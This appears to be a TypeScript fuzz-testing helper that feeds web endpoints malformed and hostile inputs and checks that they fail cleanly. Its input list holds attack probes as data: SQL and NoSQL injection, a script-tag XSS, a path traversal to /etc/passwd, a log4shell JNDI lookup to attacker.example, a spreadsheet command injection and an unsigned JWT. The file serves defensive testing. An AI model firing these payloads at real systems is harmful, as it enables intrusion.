import fc from 'fast-check';
import { expect } from 'vitest';

/** Property runs per endpoint: FUZZ_RUNS raises it (the default keeps `npm test` short). */
export const RUNS = Number(process.env.FUZZ_RUNS ?? 40);

/** Strings attackers and broken clients send: injections, odd unicode, huge and empty. */
export const nasty = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc.constantFrom(
    "' OR 1=1 --",
    '{"$ne": null}',
    '<script>alert(1)</script>',
    '../../etc/passwd',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, literally
    '${jndi:ldap://attacker.example/a}',
    "=cmd|' /C calc'!A0",
    '\u0000',
    '\uD800',
    '𠀋'.repeat(300),
    'a'.repeat(70_000),
    '1.2.156.3005.2.x',
    '~~~~',
    'eyJhbGciOiJub25lIn0.eyJpc3MiOiJ4In0.~',
  ),
);
export const jsonValue = fc.jsonValue({ maxDepth: 6 });
export const deep = fc.nat({ max: 3000 }).map((n) => `${'['.repeat(n)}${']'.repeat(n)}`);

/** A JSON body: malformed text, deep nesting, any JSON, or the given shape with nasty fields. */
export const jsonBody = (shape?: fc.Arbitrary<unknown>) =>
  fc.oneof(
    nasty,
    deep,
    jsonValue.map((v) => JSON.stringify(v)),
    ...(shape ? [shape.map((v) => JSON.stringify(v))] : []),
  );

/** Form fields: the given names (and random ones) with nasty values, urlencoded. */
export const formBody = (names: readonly string[]) =>
  fc
    .tuple(
      fc.record(Object.fromEntries(names.map((n) => [n, nasty])), { requiredKeys: [] }),
      fc.dictionary(fc.string({ maxLength: 20 }), nasty, { maxKeys: 4 }),
    )
    .map(([known, extra]) => {
      const form = new URLSearchParams();
      for (const [k, v] of Object.entries({ ...extra, ...known })) form.append(k, String(v).toWellFormed());
      return form.toString();
    });

/** A header value fetch can send (Latin-1), up to 8 KiB: oversized headers included. */
export const headerValue = fc.oneof(
  fc.stringMatching(/^[\x20-\x7e]{0,200}$/),
  fc.nat({ max: 8000 }).map((n) => 'A'.repeat(n)),
);

/** Never a 5xx; a 4xx says what was wrong, in whichever shape the endpoint speaks. */
export const expectClear = async (res: Response, what: string): Promise<string> => {
  expect(res.status, what).toBeLessThan(500);
  const text = await res.text();
  if (res.status >= 400) {
    const type = res.headers.get('content-type') ?? '';
    if (type.includes('json')) {
      const body = JSON.parse(text) as { detail?: string; error?: string; error_description?: string };
      expect(body.detail ?? body.error_description ?? body.error, `${what}: ${text.slice(0, 200)}`).toEqual(
        expect.any(String),
      );
    } else {
      expect(type, what).toMatch(/text\/html/);
      expect(text, what).toMatch(/<h1[^>]*>[^<]+<\/h1>/);
    }
  }
  return text;
};
